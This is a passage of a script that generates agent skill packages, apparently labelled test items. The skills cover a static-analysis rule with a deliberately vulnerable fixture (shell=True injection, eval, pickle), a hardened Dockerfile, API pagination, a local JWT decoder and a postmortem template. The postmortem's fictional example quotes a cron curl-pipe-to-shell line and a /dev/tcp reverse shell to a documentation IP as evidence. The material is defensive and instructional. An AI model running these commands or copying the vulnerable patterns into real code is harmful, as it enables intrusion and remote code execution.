`rules/python-injection.yaml` and `fixtures/python-injection.py` show the
annotated format. The fixture file deliberately contains vulnerable code; it
is test data for the rule and is never imported or run.
"""),
"rules/python-injection.yaml": r"""rules:
  - id: python-subprocess-shell-true
    languages: [python]
    severity: ERROR
    message: "subprocess with shell=True and a non-literal command allows command injection (CWE-78)"
    patterns:
      - pattern: subprocess.$F(..., shell=True, ...)
      - pattern-not: subprocess.$F("...", ..., shell=True, ...)
    metadata: { cwe: "CWE-78", confidence: HIGH }

  - id: python-eval-untrusted
    languages: [python]
    severity: ERROR
    message: "eval/exec on a non-literal value (CWE-95); use ast.literal_eval or a parser"
    patterns:
      - pattern-either:
          - pattern: eval($X)
          - pattern: exec($X)
      - pattern-not: eval("...")
      - pattern-not: exec("...")
    metadata: { cwe: "CWE-95" }

  - id: python-pickle-loads
    languages: [python]
    severity: WARNING
    message: "pickle.loads on data that may be untrusted (CWE-502)"
    pattern-either:
      - pattern: pickle.loads(...)
      - pattern: pickle.load(...)
    metadata: { cwe: "CWE-502" }
""",
"fixtures/python-injection.py": r'''# Fixture for rules/python-injection.yaml. Intentionally vulnerable; never run.
import pickle
import subprocess


def convert(filename):
    # ruleid: python-subprocess-shell-true
    subprocess.run("convert " + filename + " out.png", shell=True)
    # ok: python-subprocess-shell-true
    subprocess.run("ls -la", shell=True)
    # ok: python-subprocess-shell-true
    subprocess.run(["convert", filename, "out.png"])


def calc(expr):
    # ruleid: python-eval-untrusted
    return eval(expr)


def constant():
    # ok: python-eval-untrusted
    return eval("1 + 1")


def load(blob):
    # ruleid: python-pickle-loads
    return pickle.loads(blob)
''',
    })

# ---------------------------------------------------------------------------
add("dockerfile-best-practices", L, "pass",
    "Dockerfile review skill with a hardened Python template (digest-pinned base, non-root user, checksum-verified tini download from a configurable mirror, no secrets in layers) and a hadolint config",
    {
"SKILL.md": skill("dockerfile-best-practices",
"Reviews and rewrites Dockerfiles for small, secure, cache-friendly images: pinned bases, multi-stage builds, non-root users, verified downloads and BuildKit secrets. Use when writing or reviewing a Dockerfile.",
r"""
# Dockerfile Best Practices

Small, reproducible, least-privilege images.

## Review checklist

| Check | Why |
|-------|-----|
| base image pinned by digest | tags move; digests don't |
| multi-stage build | compilers and caches stay out of the final image |
| dependency files copied before source | better layer caching |
| `USER` non-root | limits impact of a container escape |
| downloads verified with a checksum | no silent supply-chain swaps |
| secrets via `--mount=type=secret` | never in `ENV`, `ARG` or layers |
| `HEALTHCHECK` defined | orchestrators can restart bad containers |
| `.dockerignore` present | keeps `.git`, `.env`, `node_modules` out of context |

## Template

`templates/Dockerfile.python` implements all of the above for a Python web
app. Fill in the digest for the base image you use:

```bash
docker buildx imagetools inspect python:3.12-slim --format '{{json .Manifest.Digest}}'
```

## Lint

```bash
hadolint --config templates/hadolint.yaml Dockerfile
```

## Private dependencies

```dockerfile
RUN --mount=type=secret,id=pip_index_url \
    PIP_INDEX_URL="$(cat /run/secrets/pip_index_url)" pip install -r requirements.txt
```

Build with `docker build --secret id=pip_index_url,env=PIP_INDEX_URL .`; the
value never lands in the image history.

## Size tips

- `--no-install-recommends` and remove apt lists in the same `RUN`.
- `pip install --no-cache-dir`.
- Check with `docker history --no-trunc <image>`.
"""),
"templates/Dockerfile.python": r"""# syntax=docker/dockerfile:1.7
ARG PYTHON_IMAGE=python:3.12-slim@sha256:REPLACE_WITH_DIGEST
ARG ARTIFACT_MIRROR=https://artifacts.example.com/oss

FROM ${PYTHON_IMAGE} AS build
WORKDIR /app
RUN python -m venv /opt/venv
ENV PATH=/opt/venv/bin:$PATH
COPY requirements.txt .
RUN --mount=type=cache,target=/root/.cache/pip pip install -r requirements.txt
COPY src/ ./src/

FROM ${PYTHON_IMAGE}
ARG ARTIFACT_MIRROR
ARG TINI_VERSION=0.19.0
ARG TINI_SHA256=93dcc18adc78c65a028a84799ecf8ad40c936fdfc5f2a57b1acda5a8117fa82c
RUN set -eux; \
    apt-get update; apt-get install -y --no-install-recommends curl ca-certificates; \
    curl -fsSLo /usr/local/bin/tini "${ARTIFACT_MIRROR}/tini/v${TINI_VERSION}/tini-amd64"; \
    echo "${TINI_SHA256}  /usr/local/bin/tini" | sha256sum -c -; \
    chmod 0755 /usr/local/bin/tini; \
    apt-get purge -y curl; apt-get autoremove -y; rm -rf /var/lib/apt/lists/*
RUN groupadd --system app && useradd --system --gid app --home /app app
COPY --from=build /opt/venv /opt/venv
COPY --from=build --chown=app:app /app/src /app/src
ENV PATH=/opt/venv/bin:$PATH PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1
WORKDIR /app
USER app
EXPOSE 8000
HEALTHCHECK --interval=30s --timeout=3s CMD python -c "import urllib.request,sys; sys.exit(0 if urllib.request.urlopen('http://127.0.0.1:8000/healthz', timeout=2).status == 200 else 1)"
ENTRYPOINT ["/usr/local/bin/tini", "--"]
CMD ["python", "-m", "uvicorn", "src.main:app", "--host", "0.0.0.0", "--port", "8000"]
""",
"templates/hadolint.yaml": r"""failure-threshold: warning
ignored:
  - DL3008   # apt versions pinned via base digest instead
trustedRegistries:
  - registry.example.com
label-schema:
  org.opencontainers.image.source: url
""",
"templates/.dockerignore": r""".git
.venv
node_modules
__pycache__
*.pyc
.env
.env.*
dist
build
""",
    })

# ---------------------------------------------------------------------------
add("api-pagination-helper", L, "pass",
    "Small Python library and guide for iterating cursor, offset and Link-header paginated REST APIs with retries and rate-limit handling, using only the user's configured base URL and token",
    {
"SKILL.md": skill("api-pagination-helper",
"Iterates paginated REST APIs (cursor, page/offset and RFC 8288 Link headers) with backoff on 429/5xx and a max-items guard. Use when the user needs to fetch all records from an API that returns pages.",
r"""
# API Pagination Helper

Fetch every page, politely.

## Styles supported

| Style | Request | Next page signal |
|-------|---------|------------------|
| cursor | `?cursor=abc&limit=100` | `next_cursor` field in body |
| offset | `?offset=200&limit=100` | fewer than `limit` items returned |
| page | `?page=3&per_page=100` | empty page |
| Link header | any | `Link: <...>; rel="next"` |

## Usage

```python
from paginate import iterate

for item in iterate(
    "https://api.example.com/v1/orders",
    style="cursor",
    token=os.environ["API_TOKEN"],
    params={"status": "open"},
    items_key="data",
    max_items=10_000,
):
    handle(item)
```

Copy `lib/paginate.py` into the project or import it from the skill folder.

## Behaviour

- Retries 429 and 5xx with exponential backoff, honouring `Retry-After`.
- Stops at `max_items` to avoid runaway loops on buggy APIs.
- Sends the token only to the host of the starting URL; a `next` link on a
  different host is refused.
- Streams items; memory use is one page.

## Tips

- Prefer cursor pagination when the API offers it; offset pagination can skip
  or duplicate rows when data changes during the crawl.
- Log the last cursor so a crashed export can resume.
"""),
"lib/paginate.py": r'''"""Generic REST pagination with retries (stdlib only)."""
import json
import re
import time
import urllib.error
import urllib.parse
import urllib.request

LINK_NEXT = re.compile(r'<([^>]+)>\s*;\s*rel="?next"?')


def _get(url, token, timeout=30, attempts=5):
    headers = {"Accept": "application/json", "User-Agent": "paginate/1.0"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    delay = 1.0
    for i in range(attempts):
        try:
            with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=timeout) as r:
                return json.loads(r.read() or b"null"), r.headers
        except urllib.error.HTTPError as e:
            if e.code not in (429, 500, 502, 503, 504) or i == attempts - 1:
                raise
            wait = float(e.headers.get("Retry-After") or delay)
            time.sleep(min(wait, 60))
            delay *= 2
    raise RuntimeError("unreachable")


def _with(url, **params):
    parts = urllib.parse.urlsplit(url)
    q = dict(urllib.parse.parse_qsl(parts.query))
    q.update({k: str(v) for k, v in params.items() if v is not None})
    return urllib.parse.urlunsplit(parts._replace(query=urllib.parse.urlencode(q)))


def iterate(url, style="cursor", token=None, params=None, items_key="data",
            limit=100, max_items=100_000, cursor_key="next_cursor"):
    origin = urllib.parse.urlsplit(url).netloc
    params = dict(params or {})
    count, offset, page, cursor = 0, 0, 1, None
    next_url = None
    while True:
        if style == "link" and next_url:
            req = next_url
        elif style == "cursor":
            req = _with(url, **params, limit=limit, cursor=cursor)
        elif style == "offset":
            req = _with(url, **params, limit=limit, offset=offset)
        else:
            req = _with(url, **params, per_page=limit, page=page)
        if urllib.parse.urlsplit(req).netloc != origin:
            raise ValueError(f"refusing to follow pagination to another host: {req}")
        body, headers = _get(req, token)
        items = body.get(items_key, []) if isinstance(body, dict) else (body or [])
        for it in items:
            yield it
            count += 1
            if count >= max_items:
                return
        if style == "cursor":
            cursor = body.get(cursor_key) if isinstance(body, dict) else None
            if not cursor:
                return
        elif style == "offset":
            if len(items) < limit:
                return
            offset += limit
        elif style == "page":
            if not items:
                return
            page += 1
        else:
            m = LINK_NEXT.search(headers.get("Link", ""))
            if not m:
                return
            next_url = urllib.parse.urljoin(req, m.group(1))
''',
    })

# ---------------------------------------------------------------------------
_JWT = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
        "eyJzdWIiOiJ1c2VyLTQyIiwiaXNzIjoiaHR0cHM6Ly9hdXRoLmV4YW1wbGUuY29tIiwiZXhwIjoxNzAwMDAwMDAwfQ."
        "c2lnbmF0dXJlLW5vdC1yZWFs")
add("jwt-inspector", L, "pass",
    "Offline JWT inspector that base64url-decodes header and claims locally, flags alg=none, expired and long-lived tokens, and explicitly tells the agent never to paste tokens into online decoders",
    {
"SKILL.md": skill("jwt-inspector",
"Decodes and explains JSON Web Tokens locally: header, claims, expiry, audience and common misconfigurations, without sending the token anywhere. Use when debugging 401s or when the user pastes a JWT and asks what is in it.",
sub(r"""
# JWT Inspector

Understand a token without leaking it.

## Rules

- Decode locally only. Do not paste tokens into websites or send them to any
  API; a valid token is a credential.
- Redact the signature part when quoting a token back to the user.
- Decoding is not verification: only the issuer's key proves authenticity.

## Decode

```bash
python3 <skill-dir>/scripts/jwt_inspect.py "$TOKEN"
python3 <skill-dir>/scripts/jwt_inspect.py --file token.txt
```

Example (a made-up token):

```
@@JWT@@
```

prints

```
header: {"alg": "HS256", "typ": "JWT"}
claims: {"sub": "user-42", "iss": "https://auth.example.com", "exp": 1700000000}
exp:    2023-11-14T22:13:20Z  (EXPIRED)
```

## What to look for

| Finding | Meaning |
|---------|---------|
| `alg: none` | unsigned token; servers must reject it |
| `alg: HS256` on a public client | shared secret may be exposed |
| `exp` missing or > 24h for access tokens | long-lived credential |
| `aud` not matching the API | token minted for another service (401) |
| `nbf` in the future | clock skew between issuer and API |
| `kid` unknown to the API | key rotation not propagated (JWKS cache) |

## Verifying (when the user has the key)

Use the project's JWT library with an explicit algorithm allowlist, e.g. in
Python `jwt.decode(token, key, algorithms=["RS256"], audience="api")`.
""", JWT=_JWT)),
"scripts/jwt_inspect.py": r'''#!/usr/bin/env python3
"""Decode a JWT locally and report common issues. No network access."""
import argparse
import base64
import datetime as dt
import json
import sys


def b64url(part):
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("token", nargs="?")
    ap.add_argument("--file")
    a = ap.parse_args()
    tok = (open(a.file).read() if a.file else a.token or sys.stdin.read()).strip()
    if tok.lower().startswith("bearer "):
        tok = tok[7:]
    parts = tok.split(".")
    if len(parts) != 3:
        sys.exit("not a JWS compact token (expected 3 dot-separated parts)")
    header = json.loads(b64url(parts[0]))
    claims = json.loads(b64url(parts[1]))
    print("header:", json.dumps(header))
    print("claims:", json.dumps(claims))
    now = dt.datetime.now(dt.timezone.utc)
    issues = []
    if str(header.get("alg", "")).lower() == "none":
        issues.append("alg=none: unsigned token")
    for k in ("exp", "nbf", "iat"):
        if k in claims:
            t = dt.datetime.fromtimestamp(int(claims[k]), dt.timezone.utc)
            note = ""
            if k == "exp" and t < now:
                note = "  (EXPIRED)"
            if k == "nbf" and t > now:
                note = "  (NOT YET VALID)"
            print(f"{k + ':':<7} {t.strftime('%Y-%m-%dT%H:%M:%SZ')}{note}")
    if "exp" not in claims:
        issues.append("no exp claim")
    elif "iat" in claims and int(claims["exp"]) - int(claims["iat"]) > 86400:
        issues.append("lifetime over 24h")
    print("signature: <redacted, %d bytes>" % len(b64url(parts[2])))
    for i in issues:
        print("warning:", i)
    return 0


if __name__ == "__main__":
    sys.exit(main())
''',
    })

# ---------------------------------------------------------------------------
add("incident-postmortem-writer", L, "pass",
    "Blameless postmortem writing skill with a template and a worked example whose timeline quotes attacker commands (cron curl|sh persistence, reverse shell) as evidence, using documentation IPs",
    {
"SKILL.md": skill("incident-postmortem-writer",
"Writes blameless incident postmortems: timeline, impact, root cause (5 whys), what went well, action items with owners. Use after an outage or security incident when the user wants a write-up.",
r"""
# Incident Postmortem Writer

A clear, blameless record that leads to real fixes.

## Gather inputs

Ask the user for (or extract from the incident channel export):

- detection time, mitigation time, resolution time (with timezone)
- customer impact: who, how many, how long
- the sequence of events with timestamps
- what changed recently (deploys, config, dependencies)

## Write

Fill `templates/postmortem.md` section by section:

1. **Summary**: three sentences a executive can read.
2. **Impact**: numbers, not adjectives.
3. **Timeline**: UTC, one line per event, include detection and each decision.
4. **Root cause**: use 5 whys; stop at a cause the team can act on.
5. **What went well / what didn't**.
6. **Action items**: each with owner, due date and ticket link; prefer
   prevention and detection over "be more careful".

## Blameless language

| Instead of | Write |
|------------|-------|
| "Bob broke prod" | "A config change was deployed without a canary" |
| "human error" | the system condition that made the error easy |

## Security incidents

Quote attacker commands and indicators exactly as found in logs, in code
blocks, defanged where they contain live infrastructure. See
`reference/example-security-incident.md` for the expected level of detail.
Don't include credentials or customer data in the document.

## Review

Share the draft with everyone in the timeline before publishing.
"""),
"templates/postmortem.md": r"""# Postmortem: <title>

| Field | Value |
|-------|-------|
| Date | YYYY-MM-DD |
| Authors | |
| Status | draft / reviewed / published |
| Severity | SEV-1 / SEV-2 / SEV-3 |

## Summary

## Impact

## Timeline (UTC)

| Time | Event |
|------|-------|

## Root cause

## Contributing factors

## What went well

## What went wrong

## Action items

| Action | Type (prevent/detect/mitigate) | Owner | Due | Ticket |
|--------|-------------------------------|-------|-----|--------|
""",
"reference/example-security-incident.md": r"""# Example: compromised CI runner (fictional)

## Summary

A self-hosted CI runner was compromised through a malicious dependency with an
install hook. The attacker gained persistence on the runner and attempted to
reach an external host. No customer data was accessed.

## Timeline (UTC)

| Time | Event |
|------|-------|
| 09:12 | Build job installs `left-padding-utils@2.0.1` (typosquat) with a `postinstall` script |
| 09:12 | postinstall writes a crontab entry (see evidence 1) |
| 09:20 | EDR alert: outbound connection from runner to 203.0.113.45:4444 |
| 09:31 | On-call isolates runner from network |
| 10:05 | Runner image destroyed and rebuilt; CI tokens rotated |

## Evidence

1. Crontab line found on the runner:
   ```
   */5 * * * * curl -fsS http://203.0.113.45/x | sh
   ```
2. Process tree showed an interactive shell redirected to a socket:
   ```
   bash -i >& /dev/tcp/203.0.113.45/4444 0>&1
   ```
3. Lockfile diff introducing the dependency was auto-merged by a bot.

## Root cause

Dependency updates were auto-merged without review and CI runners allowed
arbitrary egress.

## Action items

| Action | Type | Owner |
|--------|------|-------|
| require review for new (not updated) dependencies | prevent | platform |
| `npm ci --ignore-scripts` in CI, allowlist packages needing scripts | prevent | platform |
| egress allowlist for runners | prevent | infra |
| alert on crontab changes on runners | detect | security |
""",
    })
